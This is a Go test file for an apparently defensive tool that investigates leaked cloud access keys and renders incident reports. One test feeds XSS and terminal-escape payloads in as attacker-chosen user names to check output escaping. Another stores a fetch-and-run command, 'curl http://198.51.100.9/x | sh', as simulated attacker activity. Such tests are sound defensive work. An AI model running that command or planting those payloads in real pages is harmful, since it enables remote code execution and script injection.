package incident_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/akguard/akguard/cmd/internal/incident"
	"github.com/akguard/akguard/cmd/internal/message"
	"github.com/akguard/akguard/rules"
	"github.com/akguard/akguard/rules/rulestest"
	"github.com/akguard/akguard/verifier/account"
	"github.com/akguard/akguard/verifier/investigate"
)

const own = "1234567890123456"

var leakTime = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)

// theft is a reading of an account in which a thief made a user with a name, and a key that still works.
func theft(name string) *account.Snapshot {
	keys := rulestest.NewKeys(7)
	leaked, born := account.Ref(rules.NewSecret(keys.ID24())), account.Ref(rules.NewSecret(keys.ID24()))
	a := &account.Snapshot{Account: own, Taken: leakTime.Add(time.Hour), Since: leakTime, Leaked: []account.KeyRef{leaked}}
	for _, c := range investigate.Checks() {
		for _, q := range c.Asks {
			if !a.Ledger.Asked(q) {
				a.Ledger = append(a.Ledger, account.Entry{Ask: q, Outcome: account.Seen})
			}
		}
	}
	act := func(n int, action string, params map[string]string, born ...account.KeyRef) {
		a.Events = append(a.Events, account.Event{ID: fmt.Sprint("e", n), Time: leakTime.Add(time.Duration(n) * time.Minute), Service: "Ram", Name: action, Write: true,
			Region: "cn-hangzhou", SourceIP: "198.51.100.66", UserAgent: name, Actor: account.Actor{Kind: account.RAMUser, Name: "deployer", Key: leaked, Account: own}, Params: params, Keys: born})
	}
	act(1, "CreateUser", map[string]string{"UserName": name})
	act(2, "CreateAccessKey", map[string]string{"UserName": name}, born)
	act(3, "DeleteUser", map[string]string{"UserName": "old"})
	a.Users = []account.User{{Name: name, Created: leakTime.Add(time.Minute), Keys: []account.Key{{Ref: born, Active: true, Created: leakTime.Add(2 * time.Minute)}}}}
	return a
}

func report(a *account.Snapshot) incident.Report {
	r := incident.Report{Version: "test", Snapshot: a, Result: investigate.Judge(a, investigate.Options{})}
	for _, key := range a.Leaked {
		r.Leaks = append(r.Leaks, incident.Leak{Key: key, Place: "config/.env", At: leakTime})
	}
	return r
}

func render(t *testing.T, format string, r incident.Report, o incident.Options) string {
	t.Helper()
	if o.Words == nil {
		o.Words = message.New(message.English)
	}
	for _, f := range incident.Formats() {
		if f.Name == format {
			text, err := f.Render(r, o)
			if err != nil {
				t.Fatal(err)
			}
			return string(text)
		}
	}
	t.Fatalf("no format %s", format)
	return ""
}

func TestFormats(t *testing.T) {
	for _, language := range []message.Language{message.English, message.Chinese} {
		for _, f := range incident.Formats() {
			text := render(t, f.Name, report(theft("support")), incident.Options{Words: message.New(language)})
			for _, want := range []string{"support", "CreateAccessKey", "198.51.100.66"} {
				if !strings.Contains(text, want) {
					t.Errorf("%s, %s: there is no %s", language, f.Name, want)
				}
			}
			if f.Name != "json" && strings.Contains(text, "investigate.") {
				t.Errorf("%s, %s: a key without a text: %s", language, f.Name, text[strings.Index(text, "investigate."):][:60])
			}
		}
	}
}

// TestHostile has names that a thief chose to break the report.
func TestHostile(t *testing.T) {
	for _, name := range []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style><script>x</script>`, "a\nb\x1b[31m", `javascript:alert(1)`, `'-alert(1)-'`,
		`{{.}}`, `<!--`, `]]>`, "\u202efoo", `<svg/onload=x>`, `&lt;script&gt;`,
	} {
		text := render(t, "html", report(theft(name)), incident.Options{})
		body := text[strings.Index(text, "<body>"):strings.LastIndex(text, "<script>")]
		for _, bad := range []string{"<script", "<img", "<svg", "onerror=alert(1)>", "<!--", "\x1b", "\u202e"} {
			if strings.Contains(body, bad) {
				t.Errorf("%q: the page has %q", name, bad)
			}
		}
		for _, format := range []string{"text", "markdown"} {
			out := render(t, format, report(theft(name)), incident.Options{})
			if strings.ContainsAny(out, "\x1b\u202e") {
				t.Errorf("%q: %s has a control character", name, format)
			}
		}
	}
}

// TestShare replaces what names the account, and replaces it by the same word everywhere.
func TestShare(t *testing.T) {
	a := theft("support-user")
	at := leakTime.Add(5 * time.Minute)
	a.Roles = []account.Role{{Name: "web", Created: leakTime.AddDate(-1, 0, 0), Updated: at, Trust: `{"Statement":[{"Effect":"Allow","Principal":{"RAM":"acs:ram::5012345678901234:root"}}]}`}}
	a.Invocations = []account.Invocation{{ID: "t-1", Created: at, Content: "curl http://198.51.100.9/x | sh", Instances: []string{"i-web-1"}}}
	a.Usage = []account.Usage{{Key: a.Leaked[0], Kind: "product", Value: "Ram", Last: at}, {Key: a.Leaked[0], Kind: "event", Value: "CreateAccessKey", Last: at}}
	r := report(a)
	for _, format := range []string{"text", "html", "markdown"} {
		text := render(t, format, r, incident.Options{Share: true})
		for _, secret := range []string{own, "support-user", "198.51.100.66", "deployer", "5012345678901234", "198.51.100.9", "config/.env", "i-web-1", r.Snapshot.Leaked[0].String()} {
			if strings.Contains(text, secret) {
				t.Errorf("%s: it names %s", format, secret)
			}
		}
		if !strings.Contains(strings.ReplaceAll(text, `\-`, "-"), "address-1") {
			t.Errorf("%s: no alias of the address", format)
		}
		if !strings.Contains(text, "CreateAccessKey") {
			t.Errorf("%s: it does not say what happened", format)
		}
	}
}

func TestReadAgain(t *testing.T) {
	r := report(theft("support"))
	back, several, err := incident.Read(strings.NewReader(render(t, "json", r, incident.Options{})))
	if err != nil || several || len(back.Accounts) != 1 {
		t.Fatalf("%d accounts, error %v", len(back.Accounts), err)
	}
	if got, want := render(t, "text", *back.Accounts[0].Report, incident.Options{}), render(t, "text", r, incident.Options{}); got != want {
		t.Errorf("it reads\n%s\nwas\n%s", got, want)
	}
	for _, bad := range []string{"", "{}", "[", `{"result":{}}`} {
		if _, _, err := incident.Read(strings.NewReader(bad)); err == nil {
			t.Errorf("%q is read as a report", bad)
		}
	}
}

// TestCompare has a first investigation, and a second one after the user was deleted.
func TestCompare(t *testing.T) {
	first := report(theft("support"))
	c := incident.Compare(first, first)
	if len(c.Open) == 0 || c.Whole() {
		t.Errorf("nothing is open: %+v", c)
	}
	a := theft("support")
	a.Users = nil
	a.Events = append(a.Events, account.Event{ID: "clean", Time: leakTime.Add(30 * time.Minute), Service: "Ram", Name: "DeleteUser", Write: true, Actor: account.Actor{Name: "admin"}, Params: map[string]string{"UserName": "support"}})
	second := report(a)
	c = incident.Compare(first, second)
	closed := false
	for _, s := range c.Closed {
		closed = closed || s.Subject.Kind == "user" && s.Subject.Name == "support" && s.By == "admin"
	}
	if !closed {
		t.Errorf("the user is not closed by admin: %+v", c)
	}
	denied := theft("support")
	denied.Users = nil
	for i := range denied.Ledger {
		if denied.Ledger[i].Action == "ListUsers" {
			denied.Ledger[i].Outcome = account.Denied
		}
	}
	if c = incident.Compare(first, report(denied)); len(c.Unsure) == 0 || c.Whole() {
		t.Errorf("a list that was not seen closes: %+v", c)
	}
}

// TestCompareHarmless has a user that is there without keys and rights, minutes after the clean-up.
func TestCompareHarmless(t *testing.T) {
	first := report(theft("support"))
	stripped := func(change func(*account.Snapshot)) *incident.Comparison {
		a := theft("support")
		a.Users[0].Keys[0].Active = false
		a.Events = append(a.Events, account.Event{ID: "later", Time: leakTime.Add(30 * time.Minute), Service: "Ram", Name: "AttachPolicyToUser", Write: true,
			Actor: account.Actor{Name: "anna"}, Params: map[string]string{"UserName": "support"}})
		a.Ledger = append(a.Ledger, account.Entry{Ask: account.Ask{Service: "actiontrail", Action: "LookupEvents"}, Outcome: account.TooFresh, From: leakTime.Add(50 * time.Minute)})
		change(a)
		return incident.Compare(first, report(a))
	}
	c := stripped(func(*account.Snapshot) {})
	if !c.Whole() || len(c.Closed) == 0 {
		t.Errorf("not closed: %+v", c)
	}
	for _, closed := range c.Closed {
		if closed.By != "" {
			t.Errorf("whoever gave it something is named as the one who closed it: %+v", closed)
		}
	}
	for name, change := range map[string]func(*account.Snapshot){
		"a policy":  func(a *account.Snapshot) { a.Users[0].Policies = []account.Attached{{Policy: "x"}} },
		"a group":   func(a *account.Snapshot) { a.Users[0].Groups = []account.Membership{{Group: "x"}} },
		"a log-in":  func(a *account.Snapshot) { a.Users[0].Login = &account.Login{Enabled: true} },
		"a service": func(a *account.Snapshot) { a.Users[0].Services = []account.Service{{ID: "x", Active: true}} },
		"no answer": func(a *account.Snapshot) {
			for i := range a.Ledger {
				if a.Ledger[i].Action == "GetLoginProfile" {
					a.Ledger[i].Outcome = account.Denied
				}
			}
		},
	} {
		if c := stripped(change); c.Whole() {
			t.Errorf("with %s, it is closed: %+v", name, c)
		}
	}
}

func TestNotClean(t *testing.T) {
	a := theft("x")
	a.Users, a.Events = nil, nil
	if text := render(t, "text", report(a), incident.Options{}); !strings.HasPrefix(text, "nothing was found, and everything was seen") {
		t.Errorf("clean: %s", text)
	}
	a.Leaked = nil
	if text := render(t, "text", report(a), incident.Options{}); !strings.Contains(text, "No key was named") {
		t.Errorf("without a key: %s", text)
	}
	a.Ledger[0].Outcome = account.Denied
	if text := render(t, "text", report(a), incident.Options{}); !strings.Contains(text, "not clean") {
		t.Errorf("not clean: %s", text)
	}
}

// FuzzRead reads any text as a report.
func FuzzRead(f *testing.F) {
	f.Add([]byte(`{"result":{"results":[]},"snapshot":{}}`))
	f.Add([]byte(`{"accounts":[{"account":"1234567890123456","why":{"code":"survey.interrupted"}}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		g, _, err := incident.Read(bytes.NewReader(data))
		if err != nil {
			return
		}
		o := incident.Options{Words: message.New(message.English), Share: len(data)%2 == 0}
		for _, format := range incident.Formats() {
			if _, err := format.RenderAll(g, o); err != nil {
				t.Error(err)
			}
			for _, p := range g.Accounts {
				if !p.Entered() {
					continue
				}
				if _, err := format.Render(*p.Report, o); err != nil {
					t.Error(err)
				}
			}
		}
	})
}
